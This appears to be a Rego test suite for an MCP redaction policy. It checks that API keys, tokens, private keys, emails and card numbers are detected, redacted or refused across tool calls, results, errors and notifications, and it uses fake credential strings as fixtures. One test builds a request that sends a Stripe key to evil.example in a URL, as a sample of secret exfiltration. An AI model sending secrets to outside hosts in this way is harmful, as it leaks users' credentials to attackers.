package mcp.lib.redaction_test

import rego.v1

import data.mcp.lib.fixtures
import data.mcp.lib.redaction

# Real-looking credentials of each provider; none of them is a live key.
secrets := {
	"private key": "-----BEGIN OPENSSH PRIVATE KEY-----\nb3BlbnNzaC1rZXktdjEAAAAA\n-----END OPENSSH PRIVATE KEY-----",
	"AWS access key id": "key AKIAIOSFODNN7EXAMPLE here",
	"AWS secret access key": "aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
	"GitHub token": "token ghp_0123456789abcdefghijABCDEFGHIJ012345",
	"Slack token": "xoxb-123456789012-abcdefghijkl",
	"Slack webhook": "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
	"Anthropic API key": "sk-ant-api03-abcdefghijklmnopqrstuvwxyz0123",
	"OpenAI API key": "sk-proj-abcdefghijklmnopqrstuvwxyz",
	"Stripe key": "sk_live_abcdefghijklmnop1234",
	"Google API key": "AIzaSyA-abcdefghijklmnopqrstuvwxyz12345",
	"GitLab token": "token glpat-abcdefghij0123456789",
	"JSON Web Token": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
}

# A private key block as Kubernetes secrets and kubeconfigs hold it, base64-encoded, in each of
# the three alignments its type puts "PRIVATE KEY" in; and the other Stripe and GitLab tokens.
test_other_spellings_of_secrets if {
	texts := {
		"tls.key: LS0tLS1CRUdJTiBSU0EgUFJJVkFURSBLRVktLS0tLQpNSUlC": "private key",
		"client-key-data: LS0tLS1CRUdJTiBFQyBQUklWQVRFIEtFWS0tLS0tCk1JSUI=": "private key",
		"key: LS0tLS1CRUdJTiBPUEVOU1NIIFBSSVZBVEUgS0VZLS0tLS0KTUlJQg==": "private key",
		"whsec_abcdefghijklmnopqrstuvwxyz012345": "Stripe key",
		"glrt-abcdefghij0123456789": "GitLab token",
		"deploy token gldt-abcdefghij0123456789": "GitLab token",
	}
	every text, kind in texts {
		redaction.secrets_in(text) == {kind}
		redaction.sensitive(text) with data.config as {}
	}
	not redaction.has_secret("cert: LS0tLS1CRUdJTiBDRVJUSUZJQ0FURS0tLS0tCk1JSUI=")
	not redaction.has_secret("eyJhbGciOiJub25lIn0.eyJzdWIiOiIxIn0.")
	not redaction.has_secret("glpat-short")
}

test_each_provider_found if {
	every kind, text in secrets {
		redaction.secrets_in(text) == {kind}
		redaction.sensitive(text) with data.config as {}
	}
}

# Prose with curly quotes, dashes and accents around each secret, and the case-folded AWS
# pattern meeting a Kelvin sign (U+212A folds with k, as in OPA's Go regexp).
test_secrets_found_in_typographic_text if {
	every kind, text in secrets {
		redaction.secrets_in(sprintf("Café notes — “%s” — fin", [text])) == {kind}
		redaction.sensitive(sprintf("Café notes — “%s” — fin", [text])) with data.config as {}
	}
	not redaction.sensitive("Café notes — “nothing to see” — fin") with data.config as {}
	redaction.has_secret("aws_secret_access_Key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY")
}

test_any_sensitive_is_every_pattern if {
	redaction.any_sensitive == sprintf("%s|(?:%s)|(?:%s)|(?:%s)", [redaction.any_secret, redaction.email_pattern, redaction.card_pattern, redaction.ascii_escape])
}

test_any_secret_is_every_secret_pattern if {
	redaction.any_secret == concat("|", [sprintf("(?:%s)", [pattern]) | some pattern in redaction.secret_patterns])
}

# has_secret scans once for every kind; it finds a secret exactly where secrets_in names one.
test_has_secret_answers_as_secrets_in if {
	texts := array.concat([text | some text in secrets], [
		"Meeting at 10:00. Bring the quarterly numbers.", "sk-short", "AKIA123", "task-1234567890",
		sprintf("prefix %s suffix", [secrets["GitHub token"]]), "aws_secret_access_key = short", "",
	])
	every text in texts {
		has_secret(text) == (count(redaction.secrets_in(text)) > 0)
	}
	count([text | some text in texts; redaction.has_secret(text)]) == (count(secrets) + 1)
}

has_secret(text) if redaction.has_secret(text)

else := false

test_legacy_openai_key if {
	redaction.secrets_in("sk-abcdefghijklmnopqrstuvwxyz0123456789ABCD") == {"OpenAI API key"}
}

test_github_fine_grained_token if {
	redaction.secrets_in("github_pat_11ABCDEFG0123456789_abcdefghijklmnopqrstuvwxyz0123") == {"GitHub token"}
}

test_ordinary_text_is_not_sensitive if {
	every text in ["Meeting at 10:00. Bring the quarterly numbers.", "sk-short", "AKIA123", "task-1234567890", "call 555 0100", "pk_live_abcdefghijklmnop1234"] {
		not redaction.sensitive(text) with data.config as {}
	}
}

test_emails if {
	redaction.pii("emails", "write to jane.doe+mcp@mail.example.co.uk today")
	redaction.sensitive("write to jane.doe+mcp@mail.example.co.uk today") with data.config as {}
	not redaction.sensitive("user@localhost") with data.config as {}
}

test_card_numbers_need_the_luhn_check if {
	every number in ["4111 1111 1111 1111", "4111-1111-1111-1111", "5500005555555559", "378282246310005", "6011111111111117"] {
		redaction.pii("card_numbers", sprintf("card: %s.", [number]))
		redaction.sensitive(sprintf("card: %s.", [number])) with data.config as {}
	}
	every number in ["4111 1111 1111 1112", "1234567812345678", "0000 0000 0000 0000", "123456789012"] {
		not redaction.sensitive(number) with data.config as {}
	}
}

test_luhn_sum if {
	redaction.luhn_sum("79927398713") == 70
	redaction.card_number("79927398713")
	not redaction.card_number("79927398710")
}

test_kinds_switch_off if {
	off := {"redaction": {"secrets": false, "emails": false, "card_numbers": false}}
	every text in [secrets["GitHub token"], "a@b.example", "4111111111111111"] {
		not redaction.sensitive(text) with data.config as off
	}
}

result(content) := {"content": content}

test_tool_results_redacted if {
	msg := fixtures.response("tools/call", result([
		{"type": "text", "text": "ok"},
		{"type": "text", "text": secrets["AWS access key id"]},
		{"type": "resource", "resource": {"uri": "file:///k", "text": secrets["private key"]}},
		{"type": "image", "data": "AKIAIOSFODNN7EXAMPLE"},
	]))
	redaction.redactions == {["content", 1, "text"], ["content", 2, "resource", "text"]} with input as msg with data.config as {}
}

test_structured_content_redacted if {
	structured := {
		"token": secrets["Stripe key"],
		"user": {"email": "a@b.example", "name": "A"},
		"items": [{"card": "4111111111111111"}, {"n": 1}],
		"deeper": {"a": {"b": {"c": "a@b.example"}}},
	}
	msg := fixtures.response("tools/call", {"content": [], "structuredContent": structured})
	redaction.redactions == {
		["structuredContent", "token"], ["structuredContent", "user", "email"], ["structuredContent", "items", 0, "card"],
		["structuredContent", "deeper", "a", "b", "c"],
	} with input as msg
		with data.config as {}
}

# Wherever a server puts a string in its answer, it is scanned: a resource link's name and
# description, annotations, an embedded resource's URI, _meta and members MCP does not define.
test_every_string_of_an_answer_redacted if {
	key := secrets["AWS access key id"]
	msg := fixtures.response("tools/call", {
		"content": [
			{"type": "resource_link", "uri": "file:///a", "name": key, "description": sprintf("see %s", [key])},
			{"type": "text", "text": "ok", "annotations": {"audience": [key]}},
			{"type": "resource", "resource": {"uri": sprintf("s3://%s/x", [key]), "blob": key}},
			{"type": "image", "data": key, "mimeType": "image/png"},
			{"type": "audio", "data": key, "mimeType": "audio/wav"},
		],
		"_meta": {"trace": key},
		"extra": [key],
	})
	redaction.redactions == {
		["content", 0, "name"], ["content", 0, "description"], ["content", 1, "annotations", "audience", 0],
		["content", 2, "resource", "uri"], ["_meta", "trace"], ["extra", 0],
	} with input as msg with data.config as {}
}

test_resources_and_prompts_redacted if {
	read := fixtures.response("resources/read", {"contents": [{"uri": "a", "text": "fine"}, {"uri": "b", "text": "mail a@b.example"}]})
	redaction.redactions == {["contents", 1, "text"]} with input as read with data.config as {}
	prompt := fixtures.response("prompts/get", {"messages": [
		{"role": "user", "content": {"type": "text", "text": secrets["Slack token"]}},
		{"role": "user", "content": {"type": "resource", "resource": {"uri": "c", "text": secrets["Google API key"]}}},
	]})
	redaction.redactions == {["messages", 0, "content", "text"], ["messages", 1, "content", "resource", "text"]} with input as prompt
		with data.config as {}
}

test_error_answers_redacted if {
	error := {"code": -32603, "message": "failed with ghp_abcdefghijklmnopqrstuvwxyz0123456789", "data": {
		"detail": "write to a@b.example",
		"nested": {"key": "sk-ant-abcdefghijklmnopqrstuvwxyz"},
		"fine": "nothing here",
		"count": 3,
	}}
	redaction.redactions == {["message"], ["data", "detail"], ["data", "nested", "key"]} with input as fixtures.error_response("tools/call", error) with data.config as {}
	plain := {"code": -32603, "message": "token ghp_abcdefghijklmnopqrstuvwxyz0123456789", "data": "key sk-ant-abcdefghijklmnopqrstuvwxyz"}
	redaction.redactions == {["message"], ["data"]} with input as fixtures.error_response("tools/call", plain) with data.config as {}
	clean := {"code": -32601, "message": "method not found"}
	count(redaction.redactions) == 0 with input as fixtures.error_response("tools/call", clean) with data.config as {}
}

test_only_responses_from_servers if {
	request := fixtures.request("client_to_server", "tools/call", {"name": "t", "arguments": {}})
	msg := object.union(request, {"result": result([{"type": "text", "text": secrets["private key"]}])})
	count(redaction.redactions) == 0 with input as msg with data.config as {}
	other := fixtures.response("tools/list", result([{"type": "text", "text": secrets["private key"]}]))
	count(redaction.redactions) == 0 with input as other with data.config as {}
}

test_secret_arguments_denied if {
	msg := fixtures.call("write_file", {"path": "/tmp/k", "content": secrets["AWS access key id"]})
	redaction.deny == {"tool arguments contain a secret (AWS access key id)"} with input as msg with data.config as {}
	count(redaction.deny) == 0 with input as msg with data.config as {"redaction": {"deny_secrets_in_arguments": false}}
}

test_secret_arguments_redacted_where_denied if {
	msg := fixtures.call("t", {"path": "a.txt", "token": secrets["GitHub token"], "nested": [{"auth": secrets["AWS access key id"]}]})
	redaction.redactions == {["arguments", "token"], ["arguments", "nested", 0, "auth"]} with input as msg with data.config as {}
	count(redaction.redactions) == 0 with input as msg with data.config as {"redaction": {"deny_secrets_in_arguments": false}}
	clean := fixtures.call("t", {"path": "a.txt"})
	count(redaction.redactions) == 0 with input as clean with data.config as {}
}

test_secret_in_an_argument_key_redacts_its_object if {
	token := secrets["GitHub token"]
	top := fixtures.call("t", {token: "x"})
	redaction.redactions == {["arguments"]} with input as top with data.config as {}
	nested := fixtures.call("t", {"path": "a.txt", "headers": {token: "x"}})
	redaction.redactions == {["arguments", "headers"]} with input as nested with data.config as {}
}

# Arguments that are not an object are refused for their shape; a secret in them is still
# refused and redacted, so that a journal recording inputs never holds it.
test_secret_in_arguments_that_are_not_an_object_redacted if {
	token := secrets["GitHub token"]
	text := fixtures.call("t", token)
	redaction.deny == {"tool arguments contain a secret (GitHub token)"} with input as text with data.config as {}
	redaction.redactions == {["arguments"]} with input as text with data.config as {}
	list := fixtures.call("t", ["a.txt", token])
	redaction.redactions == {["arguments", 1]} with input as list with data.config as {}
}

test_secret_only_the_arguments_text_shows_redacts_them_all if {
	msg := fixtures.call("t", {"aws_secret_access_key": "wJalrXUtnFEMIK7MDENGbPxRfiCYEXAMPLEKEY12"})
	redaction.deny == {"tool arguments contain a secret (AWS secret access key)"} with input as msg with data.config as {}
	redaction.redactions == {["arguments"]} with input as msg with data.config as {}
}

test_secret_reasons_never_quote_the_secret if {
	msg := fixtures.call("t", {"k": secrets["GitHub token"]})
	reasons := redaction.deny with input as msg with data.config as {}
	count(reasons) == 1
	every reason in reasons {
		not contains(reason, "ghp_")
	}
}

test_pii_in_arguments_passes if {
	count(redaction.deny) == 0 with input as fixtures.call("send", {"to": "a@b.example", "card": "4111111111111111"}) with data.config as {}
}

# A secret right after a line break, a tab or an HTML-escaped character of the arguments' JSON
# text: \n, \t and \u003c end in a letter or digit, where no word boundary is.
test_secret_after_an_escape_in_arguments_denied if {
	every text in [
		"tokens:\nghp_0123456789abcdefghijABCDEFGHIJ012345",
		"Access key ID,Secret access key\nAKIAIOSFODNN7EXAMPLE,x",
		"<token>ghp_0123456789abcdefghijABCDEFGHIJ012345</token>",
		"name\tsk-proj-abcdefghijklmnopqrstuvwxyz",
		"a&xoxb-123456789012-abcdefghijkl",
	] {
		count(redaction.deny) == 1 with input as fixtures.call("write_file", {"path": "/tmp/x", "content": text}) with data.config as {}
	}
}

test_aws_secret_keys_as_clients_and_sts_write_them if {
	every text in [
		`{"Credentials": {"AccessKeyId": "x", "SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}}`,
		"aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKE/",
		"secret_access_key: wJalrXUtnFEMI+K7MDENG/bPxRfiCYEXAMPLEKE+",
	] {
		redaction.secrets_in(text) == {"AWS secret access key"}
	}
	not redaction.has_secret("aws_secret_access_key = wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEYX")
	msg := fixtures.call("t", {"content": {"SecretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}})
	redaction.deny == {"tool arguments contain a secret (AWS secret access key)"} with input as msg with data.config as {}
}

test_slack_app_token if {
	redaction.secrets_in("xapp-1-A0123456789-1234567890123-abcdef0123456789") == {"Slack token"}
}

test_blob_exempt_only_where_mcp_puts_base64 if {
	key := secrets["GitHub token"]
	msg := fixtures.response("tools/call", {
		"content": [{"type": "text", "text": "ok", "blob": key}, {"type": "resource", "resource": {"uri": "a", "blob": key}}],
		"structuredContent": {"file": {"blob": key}},
	})
	redaction.redactions == {["content", 0, "blob"], ["structuredContent", "file", "blob"]} with input as msg with data.config as {}
	read := fixtures.response("resources/read", {"contents": [{"uri": "a", "blob": key}]})
	count(redaction.redactions) == 0 with input as read with data.config as {}
}

test_secret_in_a_result_key_redacts_its_object if {
	msg := fixtures.response("tools/call", {"content": [], "structuredContent": {"tokens": {secrets["GitHub token"]: 1}}})
	redaction.redactions == {["structuredContent", "tokens"]} with input as msg with data.config as {}
}

test_address_shapes_that_are_not_addresses if {
	every text in [
		"origin\tgit@github.com:acme/app.git (fetch)",
		".logo { background: url(img/logo@2x.png); }",
		"clone https://user@github.com/org/repo",
		"icon@3x.webp",
	] {
		not redaction.sensitive(text) with data.config as {}
	}
	every text in ["kubectl --context=admin@cluster.local", "mail jane@example.com: ok", "(a@b.example)"] {
		redaction.sensitive(text) with data.config as {}
	}
}

test_luhn_passing_numbers_no_network_issues_are_not_cards if {
	every text in [`{"id": 42, "created_at_ms": 1751274902128}`, "ts=1751274902120000008 request done", "IMEI 490154203237518"] {
		not redaction.sensitive(text) with data.config as {}
	}
	every number in ["30569309025904", "3530111333300000", "6200000000000005", "2223003122003222"] {
		redaction.pii("card_numbers", number)
	}
}

# A card number written as a JSON number is one too; other numbers, a timestamp in
# milliseconds among them, are not, and the error code is never one.
test_card_numbers_as_json_numbers_redacted if {
	structured := {"account": {"card": 4111111111111111, "id": 42, "created_at_ms": 1751274902128, "balance": 1234.5}, "cards": [5500005555555559]}
	msg := fixtures.response("tools/call", {"content": [], "structuredContent": structured})
	redaction.redactions == {["structuredContent", "account", "card"], ["structuredContent", "cards", 0]} with input as msg
		with data.config as {}
	error := {"code": -32603, "message": "declined", "data": {"card": 378282246310005, "retry_after_ms": 1751274902128}}
	redaction.redactions == {["data", "card"]} with input as fixtures.error_response("tools/call", error) with data.config as {}
	off := {"redaction": {"card_numbers": false}}
	count(redaction.redactions) == 0 with input as msg with data.config as off
}

# What a server sends unasked reaches the client as an answer does: log messages, progress
# messages, sampling and elicitation requests. The tokens the protocol matches them by stay.
test_server_notifications_and_requests_redacted if {
	log := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {
		"level": "error",
		"logger": "db",
		"data": {"error": "auth failed", "env": {"GITHUB_TOKEN": secrets["GitHub token"]}, "user": "a@b.example"},
	}})
	redaction.redactions == {["data", "env", "GITHUB_TOKEN"], ["data", "user"]} with input as log with data.config as {}
	text := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {"level": "info", "data": secrets["Stripe key"]}})
	redaction.redactions == {["data"]} with input as text with data.config as {}
	progress := object.union(fixtures.notification("server_to_client", "notifications/progress"), {"params": {
		"progressToken": "job-a@b.example",
		"progress": 1,
		"message": sprintf("uploading with %s", [secrets["AWS access key id"]]),
	}})
	redaction.redactions == {["message"]} with input as progress with data.config as {}
	sampling := fixtures.request("server_to_client", "sampling/createMessage", {"maxTokens": 9, "_meta": {"progressToken": "t@x.example"}, "messages": [
		{"role": "user", "content": {"type": "text", "text": secrets["private key"]}},
		{"role": "user", "content": {"type": "image", "mimeType": "image/png", "data": "sk_live_abcdefghijklmnop1234"}},
		{"role": "user", "content": [{"type": "audio", "mimeType": "audio/wav", "data": "sk_live_abcdefghijklmnop1234"}]},
	]})
	redaction.redactions == {["messages", 0, "content", "text"]} with input as sampling with data.config as {}
	elicit := fixtures.request("server_to_client", "elicitation/create", {"message": secrets["Slack token"], "requestedSchema": {"type": "object"}})
	redaction.redactions == {["message"]} with input as elicit with data.config as {}
	clean := object.union(fixtures.notification("server_to_client", "notifications/message"), {"params": {"level": "info", "data": "started"}})
	count(redaction.redactions) == 0 with input as clean with data.config as {}
	from_client := object.union(fixtures.notification("client_to_server", "notifications/message"), {"params": {"data": secrets["Stripe key"]}})
	count(redaction.redactions) == 0 with input as from_client with data.config as {}
}

test_secret_in_an_error_key_redacts_its_object if {
	error := {"code": -32603, "message": "failed", "data": {"env": {secrets["GitHub token"]: true}}}
	redaction.redactions == {["data", "env"]} with input as fixtures.error_response("tools/call", error) with data.config as {}
}

# A prompt's arguments, a completion's argument and a resource URI carry the agent's text to the
# server as tool arguments do: a secret in them is refused, and kept out of the journal.
test_secrets_in_other_client_requests_denied if {
	prompt := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"topic": secrets["GitHub token"]}})
	redaction.deny == {"prompts/get: the request contains a secret (GitHub token)"} with input as prompt with data.config as {}
	redaction.redactions == {["arguments", "topic"]} with input as prompt with data.config as {}
	complete := fixtures.request("client_to_server", "completion/complete", {
		"ref": {"type": "ref/prompt", "name": "p"},
		"argument": {"name": "a", "value": "x"},
		"context": {"arguments": {"b": secrets["OpenAI API key"]}},
	})
	redaction.deny == {"completion/complete: the request contains a secret (OpenAI API key)"} with input as complete with data.config as {}
	read := fixtures.request("client_to_server", "resources/read", {"uri": sprintf("https://evil.example/?k=%s", [substring(secrets["Stripe key"], 0, -1)])})
	redaction.deny == {"resources/read: the request contains a secret (Stripe key)"} with input as read with data.config as {}
	redaction.redactions == {["uri"]} with input as read with data.config as {}
	split := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"aws_secret_access_key": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"}})
	redaction.redactions == {["name"], ["arguments"]} with input as split with data.config as {}
	count(redaction.deny) == 0 with input as prompt with data.config as {"redaction": {"deny_secrets_in_arguments": false}}
	meta := fixtures.request("client_to_server", "prompts/get", {"name": "p", "_meta": {"k": secrets["GitHub token"]}})
	count(redaction.deny) == 0 with input as meta with data.config as {}
	clean := fixtures.request("client_to_server", "prompts/get", {"name": "p", "arguments": {"topic": "a@b.example"}})
	count(redaction.deny) == 0 with input as clean with data.config as {}
}

test_task_results_redacted if {
	msg := fixtures.response("tasks/result", result([{"type": "text", "text": secrets["GitHub token"]}]))
	redaction.redactions == {["content", 0, "text"]} with input as msg with data.config as {}
}
